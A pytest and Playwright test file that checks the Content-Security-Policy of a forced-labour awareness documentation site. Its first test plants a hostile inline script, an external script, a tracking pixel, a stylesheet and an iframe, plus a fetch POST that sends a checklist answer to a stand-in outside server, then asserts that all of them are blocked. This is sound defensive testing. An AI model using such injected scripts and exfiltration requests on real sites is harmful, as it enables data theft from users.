"""In headless Chromium, under each page's Content-Security-Policy: a script or an outside
request planted in a page is blocked, and nothing the site itself does is: search in English and
Arabic, answering a checklist, the language switcher, glossary tooltips, and the offline copy
opened from files, all with no violation at all."""

from __future__ import annotations

import http.server
import shutil
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from conftest import FIXTURE, _serve, edit, mkdocs_build, site_search

#: Reports every CSP violation of every document, before any of its own scripts run.
WATCH = """document.addEventListener("securitypolicyviolation",
  (e) => window.reportViolation(e.effectiveDirective + " " + e.blockedURI));"""
CHECKLIST = "checklists/forced-labour-indicators/"


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Another host, as far as the browser can tell (another port): counts what reaches it."""

    received: list[str] = []  # noqa: RUF012 - shared by the server's handlers on purpose

    def do_GET(self) -> None:
        self.received.append(self.path)
        self.send_response(200)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:
        """Keep test output clean."""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """An outside server and the list of requests it received."""
    _Recorder.received = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.received
    server.shutdown()
    server.server_close()


def _watched(browser: Browser) -> tuple[Page, list[str]]:
    """A new page, and the violations it reports as events or in the console (which hears its
    frames too), across navigations."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    violations: list[str] = []
    page.expose_function("reportViolation", lambda text: violations.append(text))
    page.add_init_script(WATCH)
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    return page, violations


def test_a_planted_script_and_outside_requests_are_blocked(
        browser: Browser, site_url: str, built_site: Path, elsewhere: tuple[str, list[str]]) -> None:
    outside, received = elsewhere
    planted = (f'<script>window.planted = true; fetch("{outside}/inline-script")</script>'
               f'<img src="{outside}/pixel.png" alt="">'
               f'<script src="{outside}/script.js"></script>'
               f'<link rel="stylesheet" href="{outside}/style.css">'
               f'<iframe src="{outside}/frame"></iframe>')
    html = (built_site / CHECKLIST / "index.html").read_text(encoding="utf-8")
    article = '<article class="md-content__inner md-typeset">'
    assert article in html
    page, violations = _watched(browser)
    page.route(f"{site_url}/{CHECKLIST}", lambda route: route.fulfill(
        body=html.replace(article, article + planted), content_type="text/html"))
    page.goto(f"{site_url}/{CHECKLIST}", wait_until="networkidle")

    assert page.evaluate("window.planted") is None, "the planted script did not run"
    # What a script that did run would try: send an answer to another host.
    sent = page.evaluate(f"""fetch("{outside}/answers", {{method: "POST", body: "deception=yes"}})
        .then(() => "sent", () => "blocked")""")
    assert sent == "blocked"
    page.wait_for_timeout(300)
    page.close()
    assert received == [], "no request reached the other host"
    expected = ["script-src-elem inline", f"img-src {outside}/pixel.png",
                f"script-src-elem {outside}/script.js", f"style-src-elem {outside}/style.css",
                f"frame-src {outside}",  # a frame is reported by its origin only
                f"connect-src {outside}/answers"]
    assert set(expected) <= set(violations), violations


def test_search_checklist_and_language_switcher_work_under_the_policy(
        browser: Browser, site_url: str) -> None:
    page, violations = _watched(browser)
    page.goto(f"{site_url}/", wait_until="networkidle")
    assert site_search(page, "debt").count() > 0

    page.goto(f"{site_url}/ar/", wait_until="networkidle")
    assert site_search(page, "جواز").count() > 0, "Arabic search works under the policy"

    page.goto(f"{site_url}/{CHECKLIST}", wait_until="networkidle")
    page.locator("fieldset[data-indicator=deception] input[value=yes]").first.click()
    assert page.locator(".ls-outcome").get_attribute("data-outcome") == "gather-more-information"

    page.locator(".md-header__option .md-select").hover()
    page.locator("a.md-select__link[hreflang=ar]").click()
    page.wait_for_load_state("networkidle")
    assert page.url == f"{site_url}/ar/{CHECKLIST}"
    page.close()
    assert violations == []


@pytest.fixture(scope="module")
def glossary_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The small fixture site with a glossary mark on its home page (no handbooks), served."""
    root = tmp_path_factory.mktemp("tooltips") / "project"
    shutil.copytree(FIXTURE, root)
    edit(root / "mkdocs.yml", "  - learnsite\n", "  - learnsite:\n      handbooks: false\n")
    edit(root / "content/index.md", "## Referral", "Watch for [[debt bondage]].\n\n## Referral")
    done = mkdocs_build(root, root.parent / "site")
    assert done.returncode == 0, done.stderr
    yield from _serve(root.parent / "site")


def test_glossary_tooltips_work_under_the_policy(browser: Browser, glossary_url: str) -> None:
    page, violations = _watched(browser)
    page.goto(f"{glossary_url}/", wait_until="networkidle")
    page.locator("article a", has_text="debt bondage").hover()
    tooltip = page.locator(".md-tooltip2--active")
    tooltip.wait_for()
    assert "A debt used to tie a worker" in tooltip.inner_text()
    page.close()
    assert violations == []


def test_the_offline_copy_works_from_files_under_the_policy(
        browser: Browser, built_site: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(built_site / "offline.zip") as bundle:
        bundle.extractall(tmp_path)
    assert 'http-equiv="Content-Security-Policy"' in (tmp_path / "index.html").read_text()
    page, violations = _watched(browser)
    page.goto((tmp_path / "index.html").as_uri())
    assert site_search(page, "welder").count() > 0, "search runs in its frame, under the policy"
    page.goto((tmp_path / "ar/index.html").as_uri())
    assert site_search(page, "جواز").count() > 0
    page.goto((tmp_path / "checklists/forced-labour-indicators.html").as_uri())
    page.locator("fieldset[data-indicator=deception] input[value=yes]").first.click()
    assert page.locator(".ls-outcome").get_attribute("data-outcome") == "gather-more-information"
    page.close()
    assert violations == []
